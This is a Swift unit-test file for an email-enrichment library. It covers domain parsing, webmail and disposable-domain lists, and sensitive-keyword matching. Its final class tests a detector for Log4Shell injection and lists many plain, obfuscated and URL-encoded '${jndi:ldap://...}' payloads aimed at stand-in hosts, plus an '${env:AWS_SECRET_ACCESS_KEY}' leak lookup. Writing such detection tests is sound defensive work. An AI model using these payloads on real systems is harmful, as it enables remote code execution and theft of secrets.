import XCTest
import OspreyCore
@testable import OspreyEnrichment

final class DomainTests: XCTestCase {
    static let psl: PublicSuffixList = try! PublicSuffixList.load(path: Paths.lists + "/public_suffix_list.dat")

    func testShippedPSLVersion() {
        XCTAssertEqual(Self.psl.version, "2026-10-22_08-36-41_UTC")
        XCTAssertGreaterThan(Self.psl.ruleCount, 10_000)
    }

    /// The official conformance vectors (test_psl.txt from the same PSL release).
    func testPSLConformanceVectors() throws {
        let text = try String(contentsOfFile: Paths.fixtures + "/test_psl.txt", encoding: .utf8)
        var checked = 0
        for line in text.split(separator: "\n") where line.hasPrefix("checkPublicSuffix(") {
            let inner = line.dropFirst("checkPublicSuffix(".count).prefix { $0 != ")" }
            let parts = inner.split(separator: ",", maxSplits: 1).map { $0.trimmingSpaces }
            func unquote(_ s: String) -> String? { s == "null" ? nil : String(s.dropFirst().dropLast()) }
            guard let input = unquote(parts[0]) else { continue } // null input
            let expected = unquote(parts[1])
            let got = Self.psl.registrableDomain(input.lowercased())
            XCTAssertEqual(got, expected, "checkPublicSuffix('\(input)')")
            checked += 1
        }
        XCTAssertGreaterThan(checked, 70)
    }

    func testRegistrableDomain() {
        XCTAssertEqual(Self.psl.registrableDomain("mail.example.co.uk"), "example.co.uk")
        XCTAssertEqual(Self.psl.registrableDomain("smtp.eu.acme.com"), "acme.com")
        XCTAssertEqual(Self.psl.registrableDomain("co.uk"), nil)
        XCTAssertEqual(Self.psl.publicSuffix("a.b.example.com.au"), "com.au")
        XCTAssertEqual(Self.psl.registrableDomain("x.0-mailer.dynv6.net"), "0-mailer.dynv6.net") // PRIVATE section
    }

    func testPunycode() {
        XCTAssertEqual(Punycode.toASCII("食狮.公司.cn"), "xn--85x722f.xn--55qx5d.cn")
        XCTAssertEqual(Punycode.toASCII("bücher.de"), "xn--bcher-kva.de")
        XCTAssertEqual(Punycode.toASCII("example.com"), "example.com")
    }

    func testGlobsAndSubdomains() {
        let s = DomainSet(["yahoo.*", "yahoo.co*.*", "*.att.ne.jp", "mail2*.com", "gmail.com", "hotmail.?r"])
        let psl = Self.psl
        XCTAssertEqual(s.match("gmail.com", psl: psl), "gmail.com")
        XCTAssertEqual(s.match("eu.gmail.com", psl: psl), "gmail.com")
        XCTAssertNil(s.match("notgmail.com", psl: psl))
        XCTAssertNotNil(s.match("yahoo.fr", psl: psl))
        XCTAssertNotNil(s.match("yahoo.co.uk", psl: psl))    // trailing .* spans a multi-label public suffix
        XCTAssertNotNil(s.match("yahoo.com.br", psl: psl))
        XCTAssertNotNil(s.match("mail.yahoo.com", psl: psl))
        XCTAssertNil(s.match("yahoo.evil.com", psl: psl))
        XCTAssertNil(s.match("yahoofan.com", psl: psl))
        XCTAssertNotNil(s.match("abc.att.ne.jp", psl: psl))
        XCTAssertNil(s.match("att.ne.jp", psl: psl))
        XCTAssertNotNil(s.match("mail2world.com", psl: psl))
        XCTAssertNil(s.match("mail2.world.com", psl: psl))  // * stays inside one label
        XCTAssertNotNil(s.match("hotmail.fr", psl: psl))
        XCTAssertNil(s.match("hotmail.com", psl: psl))
        XCTAssertEqual(DomainSet.normalize(" @Example.COM. "), "example.com")
        XCTAssertNotNil(DomainSet.problem(with: "bob@example.com"))
        XCTAssertNotNil(DomainSet.problem(with: "exa mple.com"))
        XCTAssertNil(DomainSet.problem(with: "*.att.ne.jp"))
    }

    func testShippedWebmailAndDisposableLists() throws {
        let ctx = try Context.defaults(lists: Paths.lists)
        let e = Enricher(context: ctx)
        for d in ["gmail.com", "outlook.com", "hotmail.co.uk", "yahoo.co.jp", "proton.me", "gmx.de", "web.de", "mail.ru", "qq.com"] {
            XCTAssertTrue(e.domainFacts(d).isWebmail, d)
            XCTAssertFalse(e.domainFacts(d).isDisposable, d)
        }
        for d in ["mailinator.com", "guerrillamail.com", "10minutemail.com", "yopmail.com"] {
            XCTAssertTrue(e.domainFacts(d).isDisposable, d)
            XCTAssertFalse(e.domainFacts(d).isWebmail, "\(d): disposable wins over webmail")
        }
        for d in ["acme.com", "example.org"] {
            XCTAssertFalse(e.domainFacts(d).isWebmail, d)
            XCTAssertFalse(e.domainFacts(d).isDisposable, d)
        }
        XCTAssertGreaterThan(ctx.webmailDomains.count, 6000)
        XCTAssertGreaterThan(ctx.disposableDomains.count, 10000)
        XCTAssertEqual(e.domainFacts("mail.example.co.uk").registrable, "example.co.uk")
        XCTAssertEqual(e.domainFacts("example.de").tldCountry, "DE")
        XCTAssertEqual(e.domainFacts("example.co.uk").tldCountry, "GB")
        XCTAssertNil(e.domainFacts("example.com").tldCountry)
        XCTAssertNil(e.domainFacts("startup.io").tldCountry) // vanity ccTLD
    }
}

final class KeywordTests: XCTestCase {
    func matcher(_ lists: [[String]]) -> KeywordMatcher {
        var k: [KeywordMatcher.Keyword] = []
        for (i, l) in lists.enumerated() { for w in l { k.append(KeywordMatcher.keyword(w, list: i)!) } }
        return KeywordMatcher(k)
    }

    func testWordBoundariesAndWildcards() {
        let m = matcher([["invoice*", "wire transfer", "iban"], ["ssn", "salary*"], ["cv", "job offer*"], ["*confidential*", "nda"]])
        XCTAssertEqual(m.matches(in: "Re: Invoices for March"), [0: "invoice*"])
        XCTAssertEqual(m.matches(in: "please WIRE TRANSFER today"), [0: "wire transfer"])
        XCTAssertEqual(m.matches(in: "wire transfers"), [:])            // whole words only
        XCTAssertEqual(m.matches(in: "my IBAN: DE89"), [0: "iban"])
        XCTAssertEqual(m.matches(in: "libant"), [:])
        XCTAssertEqual(m.matches(in: "My CV attached"), [2: "cv"])
        XCTAssertEqual(m.matches(in: "cvs receipt"), [:])
        XCTAssertEqual(m.matches(in: "Q3_Confidential_Report.pdf"), [3: "*confidential*"])
        XCTAssertEqual(m.matches(in: "StrictlyConfidentialPlan.docx"), [3: "*confidential*"])
        XCTAssertEqual(m.matches(in: "NDA-signed.pdf"), [3: "nda"])
        XCTAssertEqual(m.matches(in: "agenda.pdf"), [:])
        XCTAssertEqual(m.matches(in: "salary review & SSN list"), [1: "salary*"])
        let all = m.matches(in: "job offer: salary and invoice")
        XCTAssertEqual(all, [0: "invoice*", 1: "salary*", 2: "job offer*"])
        // Only the requested lists.
        XCTAssertEqual(m.matches(in: "invoice and cv", lists: 1 << 2), [2: "cv"])
    }

    func testNonASCII() {
        let m = matcher([["résumé", "gehälter*"]])
        XCTAssertEqual(m.matches(in: "Mon RÉSUMÉ ci-joint"), [0: "résumé"])
        XCTAssertEqual(m.matches(in: "GEHÄLTER 2024"), [0: "gehälter*"])
        XCTAssertEqual(m.matches(in: "résuméx"), [:])
    }
}

final class ExploitTests: XCTestCase {
    let scanner = ExploitScanner(patterns: ["${jndi:", "${env:"])

    func hit(_ s: String) -> ExploitScanner.Hit? {
        var scratch = ExploitScanner.Scratch()
        return scanner.scan(s, scratch: &scratch)
    }

    func testPlainAndObfuscatedLookups() {
        let positives = [
            "${jndi:ldap://evil.example/a}",
            "Mozilla/5.0 ${jndi:ldap://1.2.3.4:1389/Exploit}",
            "${JNDI:LDAP://evil.example/a}",
            "${${lower:j}ndi:ldap://evil.example/a}",
            "${${upper:j}${upper:n}${lower:d}${lower:i}:rmi://x/y}",
            "${${::-j}${::-n}${::-d}${::-i}:dns://x/y}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/z}",
            "${j${k8s:k5:-ND}i:ldap://x}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
            "${jndi:${lower:l}${lower:d}a${lower:p}://x}",
            "%24%7Bjndi:ldap://evil.example/a%7D",
            "GET /?q=%24%7B%24%7Blower:j%7Dndi:ldap://x%7D",
            "%2524%257Bjndi:ldap://x%257D",               // double URL encoding
            "${${lower:${lower:jndi}}:ldap://x}",
            "${jndi:ldap://x",                            // unterminated (truncated log line)
        ]
        for p in positives {
            let h = hit(p)
            XCTAssertEqual(h?.pattern, "${jndi:", p)
        }
        XCTAssertEqual(hit("${${lower:j}ndi:ldap://evil.example/a}")?.match, "${${lower:j}ndi:ldap://evil.example/a}")
        XCTAssertEqual(hit("x=%24%7Bjndi:ldap://e/a%7D&y=1")?.match, "${jndi:ldap://e/a}")
        XCTAssertEqual(hit("${env:AWS_SECRET_ACCESS_KEY}")?.pattern, "${env:")
    }

    func testNegatives() {
        for n in ["Invoice $100 for ${customer}", "price: $5 {promo}", "100% done", "%7Bjndi", "jndi:ldap://x",
                  "${lower:jndi}", "$ {jndi:ldap://x}", "${env:X:-hello}", "", "plain subject line"] {
            XCTAssertNil(hit(n), n)
        }
    }
}
